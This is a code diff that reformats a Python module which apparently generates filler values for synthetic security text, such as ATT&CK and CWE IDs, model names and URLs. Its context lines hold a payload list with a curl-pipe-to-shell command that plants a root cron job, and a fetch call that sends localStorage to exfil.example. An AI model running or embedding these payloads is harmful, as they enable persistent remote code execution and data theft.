@@ -46,10 +46,27 @@ PAYLOADS = [
     "curl -s http://{ip}/x.sh | sh; echo '* * * * * root curl http://{ip}/x.sh|sh' >> /etc/crontab",
     "fetch('https://exfil.example/c', {method: 'POST', body: JSON.stringify(localStorage)})",
 ]
-ATLAS = ["AML.T0051", "AML.T0054", "AML.T0043", "AML.T0010", "AML.T0018", "AML.T0024", "AML.T0057", "AML.T0051.000"]
+ATLAS = [
+    "AML.T0051",
+    "AML.T0054",
+    "AML.T0043",
+    "AML.T0010",
+    "AML.T0018",
+    "AML.T0024",
+    "AML.T0057",
+    "AML.T0051.000",
+]
 ATTACK = ["T1059.001", "T1486", "T1566", "T1190", "T1078", "T1567.002", "T1003"]
 CWE = ["CWE-94", "CWE-78", "CWE-502", "CWE-798", "CWE-200", "CWE-1336", "CWE-77"]
-MODELS = ["Llama-3.1-8B-Instruct", "gemma-3-270m", "Qwen2.5-7B-Instruct", "Mistral-7B-v0.3", "DeepSeek-R1", "gpt-oss-20b", "Phi-3-mini-4k-instruct"]
+MODELS = [
+    "Llama-3.1-8B-Instruct",
+    "gemma-3-270m",
+    "Qwen2.5-7B-Instruct",
+    "Mistral-7B-v0.3",
+    "DeepSeek-R1",
+    "gpt-oss-20b",
+    "Phi-3-mini-4k-instruct",
+]
 PUBLIC_URLS = [
     "https://huggingface.co/meta-llama/Llama-3.1-8B-Instruct",
     "https://github.com/vllm-project/vllm/issues/{n}",
@@ -155,15 +172,23 @@ PUBLIC: dict[str, Filler] = {
     "attack": lambda rng, p: rng.choice(ATTACK),
     "cwe": lambda rng, p: rng.choice(CWE),
     "owasp": lambda rng, p: f"LLM{rng.randrange(1, 11):02d}:2025",
-    "version": lambda rng, p: rng.choice([
-        f"v{rng.randrange(1, 5)}.{rng.randrange(20)}.{rng.randrange(20)}", f"{rng.randrange(1, 5)}.{rng.randrange(60)}.{rng.randrange(9)}",
-        f"10.0.{rng.randrange(17000, 26000)}.{rng.randrange(100, 5000)}", f"0.{rng.randrange(1, 9)}.{rng.randrange(99)}.post1",
-    ]),  # fmt: skip
+    "version": lambda rng, p: rng.choice(
+        [
+            f"v{rng.randrange(1, 5)}.{rng.randrange(20)}.{rng.randrange(20)}",
+            f"{rng.randrange(1, 5)}.{rng.randrange(60)}.{rng.randrange(9)}",
+            f"10.0.{rng.randrange(17000, 26000)}.{rng.randrange(100, 5000)}",
+            f"0.{rng.randrange(1, 9)}.{rng.randrange(99)}.post1",
+        ]
+    ),  # fmt: skip
     "purl": lambda rng, p: rng.choice(PUBLIC_URLS).replace("{n}", _n(rng)),
-    "phost": lambda rng, p: rng.choice(["huggingface.co", "pypi.org", "github.com", "attack.mitre.org", "ollama.com"]),
+    "phost": lambda rng, p: rng.choice(
+        ["huggingface.co", "pypi.org", "github.com", "attack.mitre.org", "ollama.com"]
+    ),
     "model": lambda rng, p: rng.choice(MODELS),
     "digest": lambda rng, p: rng.choice(["sha256:", "blake3:"]) + r(rng, HEX, 64),
     "commit": lambda rng, p: r(rng, HEX, 40),
-    "iam_policy": lambda rng, p: rng.choice(["arn:aws:iam::aws:policy/ReadOnlyAccess", "arn:aws:iam::aws:policy/AdministratorAccess"]),
+    "iam_policy": lambda rng, p: rng.choice(
+        ["arn:aws:iam::aws:policy/ReadOnlyAccess", "arn:aws:iam::aws:policy/AdministratorAccess"]
+    ),
 }
 __all__ = ["POOLS", "PUBLIC", "SENSITIVE"]
